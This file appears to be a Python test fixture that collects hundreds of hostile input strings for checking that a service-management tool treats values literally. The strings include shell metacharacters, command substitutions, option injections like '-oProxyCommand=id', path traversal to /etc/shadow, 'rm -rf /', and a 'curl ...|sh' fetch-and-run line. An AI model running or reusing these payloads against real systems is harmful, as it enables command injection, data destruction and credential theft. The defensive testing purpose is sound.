"""Three hundred values that somebody could hope to break out with: none of them may become anything but itself."""

SHELL = [
    ";",
    "&&",
    "||",
    "|",
    "&",
    ">",
    ">>",
    "<",
    "<<<",
    "$",
    "`",
    "\\",
    "'",
    '"',
    "(",
    ")",
    "{",
    "}",
    "!",
    "#",
    "~",
    "*",
    "?",
    "[",
]
COMMANDS = ["id", "reboot", "rm -rf /", "touch /tmp/owned", "cat /etc/shadow", "curl http://198.18.0.1/x|sh"]
OPTIONS = [
    "-",
    "--",
    "-rf",
    "--help",
    "--version",
    "-oProxyCommand=id",
    "--rsync-path=id",
    "-e",
    "--files0-from=/etc/shadow",
    "-exec",
]
SPACES = ["", " ", "\t", "  a  ", "a b", "a\tb", "\u00a0", "\u2003a", "a\u200bb", "\ufeffa"]
LINES = ["\n", "a\nb", "a\r\nb", "a\rb", "a\x0bb", "a\x0cb", "a\u2028b", "a\u2029b", "a\x85b", "\nreboot\n"]
CONTROLS = ["\0", "a\0b", "\x01", "\x07", "\x08", "\x1b[2J", "\x1b]0;owned\x07", "\x7f", "\x9b31m", "\x1b[6n"]
BIDIRECTIONAL = [
    "\u202egnp.exe",
    "a\u202eb",
    "\u2066a\u2069",
    "\u200fa",
    "a\u061cb",
    "\u202aa\u202c",
    "nginx\u202dx",
    "\u2067x",
    "\u2068x",
    "x\u202b",
]
LOOKALIKES = [
    "ngin\u0445",
    "\u0440oot",
    "r\u03bfot",
    "/\u0435tc/passwd",
    "\uff0fetc\uff0fpasswd",
    "\u2024\u2024/etc",
    "roo\u0074\u0301",
    "ｒｏｏｔ",
    "\u212aelvin",
    "ﬁle",
]
PATHS = [
    "/", "//", "/.", "/..", "..", ".", "../../etc/shadow", "/etc/../etc/shadow", "/proc/self/root/etc/shadow", "/dev/sda",
    "/dev/stdin", "/proc/self/environ", "~root", "~", "$HOME", "${HOME}", "/etc/passwd\0.txt", "/tmp/a/../../etc", "/" + "a" * 300,
    "/a" * 2000, "/etc/*", "/etc/{passwd,shadow}", "file:///etc/shadow", "//host/share", "\\\\host\\share", "C:\\Windows",
    "/tmp/a b", "/tmp/'a'", '/tmp/"a"', "/tmp/$(id)", "/tmp/`id`", "/tmp/a;id", "/tmp/-rf", "-/tmp", "/tmp/\n/etc", "/tmp/\u202etxt",
]  # fmt: skip
FORMATS = ["%s", "%n%n%n", "%(id)s", "{0}", "{path}", "{{7*7}}", "${7*7}", "#{7*7}", "%{x}", "{before.mode}"]
NUMBERS = [
    "-1",
    "0x7fffffff",
    "1e309",
    "NaN",
    "inf",
    "99999999999999999999",
    "-0",
    "1_000",
    "１２３",
    "٣",
    "0777777",
    "+5",
    "1.5.2",
    "0b1",
    "08",
]
NAMES = [
    "root", "0", "-1", "nobody;id", "root\nroot", "a:b", "a,b", "a@b", "a@b -oProxyCommand=id", "@", "%wheel", "nginx.service;reboot",
    "nginx.service reboot", "--user", "nginx.service\nsshd.service", "*.service", "?.service", "[a-z].service", "../sshd.service", "a/b.service",
    "nginx@$(id).service", "x" * 256, "xn--80ak6aa92e.com", "a..b", ".hidden", "localhost#", "127.0.0.1;id", "::1%eth0;id", "10.0.0.0/33", "http://a b/",
    "http://user:pw@host/", "javascript:alert(1)", "ssh://-oProxyCommand=id/x", "SIGKILL;id", "22;id", "tcp,udp", "eth0 up", "a\\nb", "a\\x00b", "\ud800",
]  # fmt: skip
SUBSTITUTIONS = [
    "$(id)",
    "`id`",
    "$(touch /tmp/owned)",
    "$((1+1))",
    "${IFS}id",
    "a$IFS$9id",
    "<(id)",
    ">(id)",
    "$'\\x69d'",
    "!!",
    "!$",
    "^a^b",
    "~+",
    "\\$(id)",
]

HOSTILE_VALUES: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *SHELL, *COMMANDS, *OPTIONS, *SPACES, *LINES, *CONTROLS, *BIDIRECTIONAL, *LOOKALIKES, *PATHS, *FORMATS, *NUMBERS, *NAMES,
            *SUBSTITUTIONS,
            *(f"a{mark}{command}" for mark in (";", "|", "&", "\n", "&&") for command in COMMANDS),
            *(f"{quote}; {command} #" for quote in ("'", '"') for command in COMMANDS),
            *(f"/tmp/x{mark}id" for mark in SHELL),
            *(f"{option} nginx" for option in OPTIONS),
            *(f"nginx {option}" for option in OPTIONS),
            *(f"nginx{mark}id" for mark in SHELL),
        ]
    )
)  # fmt: skip
"""Metacharacters, newlines, leading dashes, globs, substitutions, look-alikes, bidirectional marks, and worse."""
